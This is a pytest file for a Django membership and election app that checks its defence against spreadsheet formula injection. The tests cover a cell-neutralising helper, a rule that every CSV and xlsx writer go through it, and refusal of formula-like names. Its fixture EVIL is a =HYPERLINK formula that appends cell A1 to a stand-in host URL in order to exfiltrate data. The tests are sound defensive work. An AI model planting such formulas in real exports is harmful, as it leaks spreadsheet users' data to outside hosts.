"""Issue 11.5: formula-like cells are neutralised by one helper in every CSV / xlsx writer; names are refused."""

import csv
import io
import pathlib
import re
import zipfile
from datetime import date

import pytest
from django.core.exceptions import ValidationError

from dangbo.rules.spreadsheet import csv_writer, name_problem, neutralize

EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"Nguyễn Văn A\")"
SRC = pathlib.Path(__file__).resolve().parents[2] / "dangbo"


def test_neutralize_and_csv_writer():
    for bad in ("=1+1", "+84 912", "-2", "@SUM(A1)", "\tx", "\r=1"):
        assert neutralize(bad) == "'" + bad
    for good in ("Nguyễn Văn A", "", "0912", "1-2"):
        assert neutralize(good) == good
    assert neutralize(-5) == -5  # numbers are numbers, not formulas
    buf = io.StringIO()
    csv_writer(buf).writerow([1, EVIL, "An"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["1", "'" + EVIL, "An"]


def test_every_csv_and_xlsxwriter_writer_goes_through_the_helper():
    """A new writer that bypasses the helper (csv.writer / xlsxwriter.Workbook directly) fails here."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.relative_to(SRC).as_posix() in ("rules/spreadsheet.py", "exchange/workbook.py"):
            continue  # the helpers themselves
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(", text):
            offenders.append(str(path.relative_to(SRC)))
    assert not offenders


def test_election_result_csv_neutralises_candidate_names():
    from dangbo.congresses.documents import result_csv

    data = {"rows": [{"name": EVIL, "votes": 10, "percent": "50,0%", "passed": False, "elected": False},
                     {"name": "@cmd", "votes": 9, "percent": "45,0%", "passed": False, "elected": False}],
            "convened": 20, "present": 20, "base": 20, "issued": 20, "returned": 20, "valid": 20, "invalid": 0}
    rows = list(csv.reader(io.StringIO(result_csv(data).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + EVIL and rows[2][1] == "'@cmd"


def _xlsx_cells(blob: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_workbook_never_turns_text_into_a_formula():
    from dangbo.exchange.workbook import xlsx_workbook

    buf = io.BytesIO()
    wb = xlsx_workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    ws.write(0, 0, EVIL)  # the generic write() would store a formula in a default workbook
    ws.write(0, 1, "http://x.example/")
    wb.close()
    sheet = _xlsx_cells(buf.getvalue())
    assert "<f>" not in sheet and "<hyperlink" not in sheet


def test_name_problem():
    assert name_problem("Nguyễn Văn A") is None
    assert "Họ và tên" in name_problem(" =1+1 Nguyễn")
    assert "«@An Bình»" in name_problem("@An Bình")


@pytest.mark.django_db
def test_formula_names_refused_at_entry(world, api):
    from dangbo.members import actions as member_actions
    from dangbo.organizations import actions as org_actions

    with pytest.raises(ValidationError) as e:
        member_actions.update_dossier(None, world.a_members[0], {"full_name": EVIL})
    assert "full_name" in e.value.message_dict
    with pytest.raises(ValidationError) as e:
        org_actions.rename_organization(None, world.a, name="=Chi bộ", effective_date=date(2024, 1, 1))
    assert "name" in e.value.message_dict
    r = api("admin").patch(f"/api/members/{world.a_members[0].pk}/",
                           {"full_name": "+Nguyễn Văn A", "version": world.a_members[0].version}, format="json")
    assert r.status_code == 400 and "bắt đầu bằng dấu" in r.json()["full_name"][0]


@pytest.mark.django_db
def test_formula_names_flagged_in_the_import_preview(tmp_path, world):
    from tests.exchange.test_importer import preview, row, write_csv

    path = write_csv(tmp_path / "f.csv", [row("-Nguyễn Văn Bé", "15/04/1985", org=world.a.code)])
    pv = preview(path, world.users["admin"], world.dbo)
    assert pv.counts["errors"] == 1
    err = pv.errors[0]
    assert err.column == "Họ và tên" and "bắt đầu bằng dấu" in err.message
